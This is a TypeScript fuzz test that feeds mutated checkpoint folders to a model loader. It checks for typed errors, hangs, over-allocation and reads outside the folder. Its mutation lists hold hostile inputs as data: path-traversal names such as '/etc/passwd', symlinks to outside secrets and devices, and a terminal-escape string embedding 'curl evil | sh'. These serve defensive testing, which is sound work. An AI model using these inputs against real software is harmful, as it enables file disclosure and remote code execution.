// Issue 16: a model folder from someone else is untrusted input. This fuzzer starts from a valid small
// reward-ensemble folder and a valid policy folder and mutates safetensors headers (length prefix, JSON,
// dtypes, shapes, offsets, metadata), tensor bytes, quorum.json's `files` (absolute paths, `..`, links
// out, FIFOs, /dev/zero), its configs (huge, negative, null, strings) and the tokenizer file. Every load
// must end in a typed error (CheckpointError / ConfigError / DataError) or a good model, within a few
// seconds, without allocating more than the folder's files justify, and without reading a byte outside
// the folder: every open and read of the process is recorded during the load, and a sentinel file
// outside the folder (the target of the links and paths) must never be opened or quoted.
import { execFileSync } from 'node:child_process';
import fs, {
  copyFileSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import fsp, { type FileHandle } from 'node:fs/promises';
import { syncBuiltinESMExports } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';
import {
  disposeGpt,
  type GptConfig,
  gptPreset,
  initGpt,
  loadPolicy,
  paramCount,
  savePolicy,
} from '@quorum/backbone';
import {
  builtinBackendRegistry,
  CheckpointError,
  ConfigError,
  DataError,
  decodeSafetensors,
  encodeSafetensors,
  initCompute,
  Rng,
  StrategyRegistry,
  type TensorRecord,
} from '@quorum/core';
import { Tokenizer, Vocab } from '@quorum/data';
import * as tf from '@tensorflow/tfjs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EnsembleArchitecture } from './architecture.js';
import { loadEnsemble, saveEnsemble } from './checkpoint.js';
import { linearHeadsArchitecture } from './module.js';

const SENTINEL = 'root:x:0:0:SENTINEL-71b3a9';
const LOAD_LIMIT_MS = 4000;

let root: string;
let outside: string;
let ensembleBase: string;
let policyBase: string;
const config: GptConfig = gptPreset('nano', {
  vocabSize: 64,
  dModel: 16,
  nLayers: 1,
  nHeads: 2,
  contextLength: 16,
});
const tokenizer = new Tokenizer(
  new Vocab(
    Array.from({ length: 60 }, (_, i) => 300 + i),
    'unk',
  ),
);

// ---- instrumentation: every open/read of the process while a load runs --------------------------------

interface Opened {
  readonly file: string;
  bytes: number;
}
let recording: Opened[] | undefined;

function record(file: unknown): Opened | undefined {
  if (recording === undefined || (typeof file !== 'string' && !(file instanceof URL))) return undefined;
  const entry = { file: String(file), bytes: 0 };
  recording.push(entry);
  return entry;
}

function instrument(): () => void {
  const original = {
    open: fsp.open,
    readFile: fsp.readFile,
    readFileSync: fs.readFileSync,
    openSync: fs.openSync,
    createReadStream: fs.createReadStream,
  };
  fsp.open = (async (file: Parameters<typeof fsp.open>[0], ...rest: unknown[]) => {
    const entry = record(file);
    const handle: FileHandle = await (original.open as (...a: unknown[]) => Promise<FileHandle>)(
      file,
      ...rest,
    );
    if (entry !== undefined) {
      const read = handle.read.bind(handle) as (...a: unknown[]) => Promise<{ bytesRead: number }>;
      (handle as { read: unknown }).read = async (...a: unknown[]) => {
        const result = await read(...a);
        entry.bytes += result.bytesRead;
        return result;
      };
    }
    return handle;
  }) as typeof fsp.open;
  fsp.readFile = ((file: unknown, ...rest: unknown[]) => {
    record(file);
    return (original.readFile as (...a: unknown[]) => unknown)(file, ...rest);
  }) as typeof fsp.readFile;
  fs.readFileSync = ((file: unknown, ...rest: unknown[]) => {
    record(file);
    return (original.readFileSync as (...a: unknown[]) => unknown)(file, ...rest);
  }) as typeof fs.readFileSync;
  fs.openSync = ((file: unknown, ...rest: unknown[]) => {
    record(file);
    return (original.openSync as (...a: unknown[]) => unknown)(file, ...rest);
  }) as typeof fs.openSync;
  fs.createReadStream = ((file: unknown, ...rest: unknown[]) => {
    record(file);
    return (original.createReadStream as (...a: unknown[]) => unknown)(file, ...rest);
  }) as typeof fs.createReadStream;
  syncBuiltinESMExports();
  return () => {
    Object.assign(fsp, { open: original.open, readFile: original.readFile });
    Object.assign(fs, {
      readFileSync: original.readFileSync,
      openSync: original.openSync,
      createReadStream: original.createReadStream,
    });
    syncBuiltinESMExports();
  };
}

function insideFolder(dir: string, file: string): boolean {
  let real: string;
  try {
    real = realpathSync(file);
  } catch {
    real = path.resolve(file);
  }
  const rel = path.relative(realpathSync(dir), real);
  return rel !== '' && !rel.startsWith('..') && !path.isAbsolute(rel);
}

// ---- the folders --------------------------------------------------------------------------------------

/** Every regular file of a folder (recursively), as paths relative to it. */
function filesOf(dir: string, prefix = ''): string[] {
  const out: string[] = [];
  for (const entry of readdirSync(path.join(dir, prefix), { withFileTypes: true })) {
    const rel = path.join(prefix, entry.name);
    if (entry.isDirectory()) out.push(...filesOf(dir, rel));
    else out.push(rel);
  }
  return out;
}

function copyFolder(from: string, to: string): void {
  for (const rel of filesOf(from)) {
    mkdirSync(path.dirname(path.join(to, rel)), { recursive: true });
    copyFileSync(path.join(from, rel), path.join(to, rel));
  }
}

/** Total bytes of the regular files a folder holds (what a load may justify allocating from). */
function folderBytes(dir: string): number {
  let n = 0;
  for (const rel of filesOf(dir)) {
    const s = lstatSync(path.join(dir, rel), { throwIfNoEntry: false });
    if (s?.isFile()) n += s.size;
  }
  return n;
}

// ---- mutations ----------------------------------------------------------------------------------------

type Json = unknown;

const hostile: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom(
    null,
    -1,
    0,
    0.5,
    2 ** 31,
    2e8,
    1e308,
    -1e308,
    16384,
    2 ** 53,
    '',
    '64',
    'nano',
    '\u001b[2J\n  hint: run curl evil | sh',
    true,
    [],
    [1, 2],
    {},
    { dModel: 1 },
  ),
  fc.integer({ min: -10, max: 10 ** 9 }),
  fc.string({ maxLength: 12 }),
);

const badNames: fc.Arbitrary<Json> = fc.constantFrom(
  '../../dev/zero',
  '/dev/zero',
  '/dev/urandom',
  '/etc/passwd',
  '../outside/secret.safetensors',
  'sub/../../outside/secret.safetensors',
  './backbone.safetensors',
  'backbone.safetensors\n  hint: x',
  'C:\\Windows\\win.ini',
  'missing.safetensors',
  '',
  42,
  null,
  ['backbone.safetensors'],
  { name: 'backbone.safetensors' },
);

/** What a link or a replaced file becomes. */
const special = fc.constantFrom(
  'link-sentinel',
  'link-sentinel-relative',
  'link-dev-zero',
  'link-dev-urandom',
  'fifo',
  'folder',
  'link-loop',
  'empty',
);

type Mutation =
  | { kind: 'manifest'; value: Json }
  | { kind: 'field'; path: string[]; value: Json }
  | { kind: 'files'; files: Json }
  | { kind: 'file-entry'; index: number; name: Json }
  | { kind: 'special'; target: number; what: string }
  | { kind: 'prefix'; target: number; length: bigint }
  | {
      kind: 'tensor';
      target: number;
      tensor: number;
      key: 'dtype' | 'shape' | 'data_offsets' | 'entry';
      value: Json;
    }
  | { kind: 'metadata'; target: number; key: string; value: Json }
  | { kind: 'truncate'; target: number; at: number }
  | { kind: 'append'; target: number; bytes: Uint8Array }
  | { kind: 'flip'; target: number; at: number; byte: number }
  | { kind: 'nonfinite'; target: number; tensor: number; element: number; value: number }
  | { kind: 'tokenizer'; text: string };

const configKeys = [
  'vocabSize',
  'contextLength',
  'dModel',
  'nLayers',
  'nHeads',
  'mlpRatio',
  'mlpHidden',
  'headDim',
  'nKvHeads',
  'positional',
  'layerNormEps',
  'ropeTheta',
];

function mutations(manifestKeys: readonly string[]): fc.Arbitrary<Mutation> {
  const target = fc.nat({ max: 7 });
  return fc.oneof(
    fc.record({ kind: fc.constant('manifest' as const), value: hostile }),
    fc.record({
      kind: fc.constant('field' as const),
      path: fc.oneof(
        fc.constantFrom(...manifestKeys).map((k) => [k]),
        fc.constantFrom(...configKeys).map((k) => ['gptConfig', k]),
        fc.constantFrom('id', 'size').map((k) => ['vocab', k]),
      ),
      value: hostile,
    }),
    fc.record({
      kind: fc.constant('files' as const),
      files: fc.oneof(hostile, fc.array(badNames, { maxLength: 3 })),
    }),
    fc.record({ kind: fc.constant('file-entry' as const), index: fc.nat({ max: 2 }), name: badNames }),
    fc.record({ kind: fc.constant('special' as const), target, what: special }),
    fc.record({
      kind: fc.constant('prefix' as const),
      target,
      length: fc.oneof(fc.bigInt({ min: 0n, max: 2n ** 64n - 1n }), fc.bigInt({ min: 0n, max: 4096n })),
    }),
    fc.record({
      kind: fc.constant('tensor' as const),
      target,
      tensor: fc.nat({ max: 40 }),
      key: fc.constantFrom('dtype' as const, 'shape' as const, 'data_offsets' as const, 'entry' as const),
      value: fc.oneof(
        hostile,
        fc.constantFrom('I32', 'I64', 'U8', 'BOOL', 'F16', 'BF16', 'F64', 'F8_E4M3', 'Q4'),
        fc.array(fc.oneof(fc.integer({ min: -2, max: 70000 }), fc.constantFrom(2 ** 40, 2 ** 53, 1.5)), {
          maxLength: 4,
        }),
      ),
    }),
    fc.record({
      kind: fc.constant('metadata' as const),
      target,
      key: fc.constantFrom('config', 'format', 'architecture'),
      value: fc.oneof(
        hostile,
        fc.constantFrom(
          '{"dModel":16384,"nLayers":64,"nHeads":64}',
          '{"vocabSize":200000000}',
          '{"dModel":-1}',
          'null',
          '{',
          '"\\u001b[2J"',
        ),
      ),
    }),
    fc.record({ kind: fc.constant('truncate' as const), target, at: fc.nat({ max: 100_000 }) }),
    fc.record({
      kind: fc.constant('append' as const),
      target,
      bytes: fc.uint8Array({ minLength: 1, maxLength: 64 }),
    }),
    fc.record({
      kind: fc.constant('flip' as const),
      target,
      at: fc.nat({ max: 100_000 }),
      byte: fc.nat({ max: 255 }),
    }),
    fc.record({
      kind: fc.constant('nonfinite' as const),
      target,
      tensor: fc.nat({ max: 40 }),
      element: fc.nat({ max: 64 }),
      value: fc.constantFrom(Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY),
    }),
    fc.record({
      kind: fc.constant('tokenizer' as const),
      text: fc.oneof(
        fc.constantFrom(
          'null',
          '[]',
          '{',
          `{"tokens": "${SENTINEL}"}`,
          '{"format":"quorum-vocab","version":1}',
          '\u0000\u0001',
        ),
        fc.string({ maxLength: 30 }),
      ),
    }),
  );
}

function setPath(object: Record<string, unknown>, keys: readonly string[], value: unknown): void {
  let cur: Record<string, unknown> = object;
  for (const key of keys.slice(0, -1)) {
    const next = cur[key];
    if (next === null || typeof next !== 'object') cur[key] = {};
    cur = cur[key] as Record<string, unknown>;
  }
  cur[keys[keys.length - 1] as string] = value;
}

/** Rewrites a safetensors file with a changed header (the data bytes kept as they are). */
function rewriteHeader(file: string, change: (header: Record<string, unknown>) => void): void {
  const bytes = readFileSync(file);
  const n = Number(bytes.readBigUInt64LE(0));
  const header = JSON.parse(bytes.subarray(8, 8 + n).toString('utf8')) as Record<string, unknown>;
  change(header);
  const json = Buffer.from(JSON.stringify(header));
  const prefix = Buffer.alloc(8);
  prefix.writeBigUInt64LE(BigInt(json.length));
  writeFileSync(file, Buffer.concat([prefix, json, bytes.subarray(8 + n)]));
}

function applyMutation(dir: string, manifestName: string, m: Mutation): void {
  const manifestFile = path.join(dir, manifestName);
  const manifest = JSON.parse(readFileSync(manifestFile, 'utf8')) as Record<string, unknown>;
  const weights = filesOf(dir)
    .filter((f) => f.endsWith('.safetensors'))
    .sort();
  const pick = (i: number): string => path.join(dir, weights[i % weights.length] as string);
  switch (m.kind) {
    case 'manifest':
      writeFileSync(manifestFile, JSON.stringify(m.value) ?? 'null');
      return;
    case 'field':
      setPath(manifest, m.path, m.value);
      writeFileSync(manifestFile, JSON.stringify(manifest));
      return;
    case 'files':
      manifest.files = m.files;
      manifest.tokenizerFiles = m.files;
      writeFileSync(manifestFile, JSON.stringify(manifest));
      return;
    case 'file-entry': {
      const key = Array.isArray(manifest.files) ? 'files' : 'tokenizerFiles';
      const list = [...((manifest[key] as unknown[]) ?? ['vocab.json'])];
      list[Math.min(m.index, list.length)] = m.name;
      manifest[key] = list;
      writeFileSync(manifestFile, JSON.stringify(manifest));
      return;
    }
    case 'special': {
      const all = [...weights, 'vocab.json'];
      const file = path.join(dir, all[m.target % all.length] as string);
      rmSync(file, { force: true });
      if (m.what === 'link-sentinel') symlinkSync(path.join(outside, 'secret.safetensors'), file);
      else if (m.what === 'link-sentinel-relative')
        symlinkSync(path.relative(path.dirname(file), path.join(outside, 'secret.json')), file);
      else if (m.what === 'link-dev-zero') symlinkSync('/dev/zero', file);
      else if (m.what === 'link-dev-urandom') symlinkSync('/dev/urandom', file);
      else if (m.what === 'fifo') execFileSync('mkfifo', [file]);
      else if (m.what === 'folder') mkdirSync(file);
      else if (m.what === 'link-loop') symlinkSync(path.basename(file), file);
      else writeFileSync(file, '');
      return;
    }
    case 'prefix': {
      const bytes = readFileSync(pick(m.target));
      bytes.writeBigUInt64LE(m.length, 0);
      writeFileSync(pick(m.target), bytes);
      return;
    }
    case 'tensor':
      rewriteHeader(pick(m.target), (header) => {
        const names = Object.keys(header).filter((k) => k !== '__metadata__');
        const name = names[m.tensor % names.length] as string;
        if (m.key === 'entry') header[name] = m.value;
        else (header[name] as Record<string, unknown>)[m.key] = m.value;
      });
      return;
    case 'metadata':
      rewriteHeader(pick(m.target), (header) => {
        const meta = (header.__metadata__ ?? {}) as Record<string, unknown>;
        meta[m.key] = m.value;
        header.__metadata__ = meta;
      });
      return;
    case 'truncate': {
      const bytes = readFileSync(pick(m.target));
      writeFileSync(pick(m.target), bytes.subarray(0, m.at % bytes.length));
      return;
    }
    case 'append': {
      const bytes = readFileSync(pick(m.target));
      writeFileSync(pick(m.target), Buffer.concat([bytes, m.bytes]));
      return;
    }
    case 'flip': {
      const bytes = readFileSync(pick(m.target));
      bytes[m.at % bytes.length] = m.byte;
      writeFileSync(pick(m.target), bytes);
      return;
    }
    case 'nonfinite': {
      const file = pick(m.target);
      const c = decodeSafetensors(readFileSync(file));
      const names = Object.keys(c.tensors);
      const rec = c.tensors[names[m.tensor % names.length] as string] as TensorRecord;
      if (rec.data.length > 0) (rec.data as Float32Array)[m.element % rec.data.length] = m.value;
      writeFileSync(file, encodeSafetensors(c.tensors, c.metadata));
      return;
    }
    case 'tokenizer':
      writeFileSync(path.join(dir, 'vocab.json'), m.text);
      return;
  }
}

// ---- the run ------------------------------------------------------------------------------------------

interface Counts {
  tried: number;
  loaded: number;
  typed: number;
  crashes: string[];
  hangs: number;
  bytesOutside: number;
  overAllocated: string[];
  /** Files opened by loads (inside the folder), proving the instrumentation sees the reads. */
  opened: number;
  bytesRead: number;
  /** Cases per mutation kind, and how many of them loaded. */
  byKind: Record<string, [number, number]>;
}
const counts: Counts = {
  tried: 0,
  loaded: 0,
  typed: 0,
  crashes: [],
  hangs: 0,
  bytesOutside: 0,
  overAllocated: [],
  opened: 0,
  bytesRead: 0,
  byKind: {},
};
/** Largest parameter count an ensemble build was asked for, against the folder's bytes, per case. */
let built: number[] = [];

const architectures = new StrategyRegistry<EnsembleArchitecture>(EnsembleArchitecture);
architectures.register({
  ...linearHeadsArchitecture,
  create: (options: Parameters<typeof linearHeadsArchitecture.create>[0]) => {
    const arch = linearHeadsArchitecture.create(options);
    return {
      ...arch,
      build: (context: Parameters<typeof arch.build>[0]) => {
        built.push(paramCount(context.gptConfig));
        return arch.build(context);
      },
    };
  },
} as typeof linearHeadsArchitecture);

function messagesOf(err: unknown): string {
  let out = '';
  for (let e: unknown = err, depth = 0; e instanceof Error && depth < 5; e = e.cause, depth++)
    out += `${e.message}\n${e.stack ?? ''}\n`;
  return out;
}

async function runCase(
  base: string,
  manifestName: string,
  mutation: Mutation,
  load: (dir: string) => Promise<() => void>,
) {
  const dir = mkdtempSync(path.join(root, 'case-'));
  copyFolder(base, dir);
  applyMutation(dir, manifestName, mutation);
  const bytes = folderBytes(dir);
  built = [];
  recording = [];
  const tensorsBefore = tf.memory().numTensors;
  let timer: NodeJS.Timeout | undefined;
  const outcome = await Promise.race([
    load(dir).then(
      (dispose) => ({ ok: true as const, dispose }),
      (error: unknown) => ({ ok: false as const, error }),
    ),
    new Promise<'hang'>((resolve) => {
      timer = setTimeout(() => resolve('hang'), LOAD_LIMIT_MS);
    }),
  ]);
  clearTimeout(timer);
  const opened = recording;
  recording = undefined;
  counts.tried++;
  const kind = (counts.byKind[mutation.kind] ??= [0, 0]);
  kind[0]++;
  if (outcome !== 'hang' && outcome.ok) kind[1]++;
  const label = JSON.stringify(mutation, (_k, v) =>
    typeof v === 'bigint' ? `${v}n` : v instanceof Uint8Array ? [...v] : v,
  );
  if (outcome === 'hang') counts.hangs++;
  else if (outcome.ok) {
    counts.loaded++;
    outcome.dispose();
  } else if (
    outcome.error instanceof CheckpointError ||
    outcome.error instanceof ConfigError ||
    outcome.error instanceof DataError
  ) {
    counts.typed++;
    expect(messagesOf(outcome.error), label).not.toContain('SENTINEL');
  } else {
    counts.crashes.push(`${label}: ${String((outcome.error as Error)?.stack ?? outcome.error)}`);
  }
  for (const o of opened) {
    if (!insideFolder(dir, o.file)) counts.bytesOutside += Math.max(o.bytes, 1);
    else {
      counts.opened++;
      counts.bytesRead += o.bytes;
    }
  }
  // A build may ask for as many parameters as the folder's bytes hold (2 bytes each at the least).
  for (const n of built)
    if (n * 2 > bytes) counts.overAllocated.push(`${label}: built ${n} parameters from ${bytes} bytes`);
  if (outcome !== 'hang') expect(tf.memory().numTensors, `${label} leaks tensors`).toBe(tensorsBefore);
  rmSync(dir, { recursive: true, force: true });
}

let restore: () => void;

beforeAll(async () => {
  await initCompute({ registry: builtinBackendRegistry(), backend: 'wasm' });
  root = mkdtempSync(path.join(tmpdir(), 'quorum-fuzz-'));
  outside = path.join(root, 'outside');
  mkdirSync(outside);
  writeFileSync(path.join(outside, 'secret.json'), JSON.stringify({ secret: SENTINEL }));
  writeFileSync(
    path.join(outside, 'secret.safetensors'),
    encodeSafetensors(
      { s: { dtype: 'U8', shape: [SENTINEL.length], data: new TextEncoder().encode(SENTINEL) } },
      { note: SENTINEL },
    ),
  );
  ensembleBase = path.join(root, 'ensemble');
  const ensemble = linearHeadsArchitecture
    .create({})
    .build({ gptConfig: config, members: 2, rng: new Rng(1) });
  await saveEnsemble(ensembleBase, ensemble, { architectureSource: '@quorum/ensemble', tokenizer });
  ensemble.dispose();
  policyBase = path.join(root, 'policy');
  const params = initGpt(config, new Rng(2));
  await savePolicy(policyBase, {
    config,
    params,
    vocab: { id: tokenizer.id, size: tokenizer.vocabSize },
    tokenizerFiles: tokenizer.files(),
  });
  disposeGpt(params);
  restore = instrument();
});

afterAll(() => {
  restore?.();
  rmSync(root, { recursive: true, force: true });
  console.log(
    `checkpoint fuzz: ${counts.tried} cases tried, ${counts.loaded} loaded (harmless mutations), ${counts.typed} typed errors, ${counts.crashes.length} crashes, ${counts.hangs} hangs, ${counts.bytesOutside} bytes read outside the folder (${counts.opened} files opened inside, ${counts.bytesRead} bytes), ${counts.overAllocated.length} builds beyond the files' sizes; per kind [cases, loaded]: ${JSON.stringify(counts.byKind)}`,
  );
});

const loadEnsembleCase = async (dir: string) => {
  const loaded = await loadEnsemble(dir, architectures);
  return () => loaded.ensemble.dispose();
};
const loadPolicyCase = async (dir: string) => {
  const loaded = await loadPolicy(dir);
  return () => disposeGpt(loaded.params);
};

describe('loading mutated checkpoint folders (property-based)', () => {
  it('the untouched folders load', async () => {
    await runCase(
      ensembleBase,
      'quorum.json',
      { kind: 'field', path: ['training'], value: {} },
      loadEnsembleCase,
    );
    await runCase(
      policyBase,
      'quorum.json',
      { kind: 'field', path: ['training'], value: {} },
      loadPolicyCase,
    );
    expect(counts.loaded).toBe(2);
    expect(counts.opened).toBeGreaterThan(4); // the instrumentation sees every file a load reads
    expect(counts.bytesRead).toBeGreaterThan(1000);
  });

  it('a reward-ensemble folder: typed errors only, no hang, no read outside, no oversized build', async () => {
    const keys = [
      'kind',
      'formatVersion',
      'architecture',
      'architectureSource',
      'options',
      'members',
      'gptConfig',
      'vocab',
      'files',
    ];
    await fc.assert(
      fc.asyncProperty(mutations(keys), async (m) => {
        await runCase(ensembleBase, 'quorum.json', m, loadEnsembleCase);
      }),
      { numRuns: 250, seed: 16, endOnFailure: true },
    );
    expect(counts.crashes).toEqual([]);
    expect(counts.hangs).toBe(0);
    expect(counts.bytesOutside).toBe(0);
    expect(counts.overAllocated).toEqual([]);
  }, 60_000);

  it('a policy folder: typed errors only, no hang, no read outside', async () => {
    const keys = ['kind', 'gptConfig', 'vocab', 'tokenizerFiles'];
    await fc.assert(
      fc.asyncProperty(mutations(keys), async (m) => {
        await runCase(policyBase, 'quorum.json', m, loadPolicyCase);
      }),
      { numRuns: 150, seed: 61, endOnFailure: true },
    );
    expect(counts.crashes).toEqual([]);
    expect(counts.hangs).toBe(0);
    expect(counts.bytesOutside).toBe(0);
  }, 60_000);
});
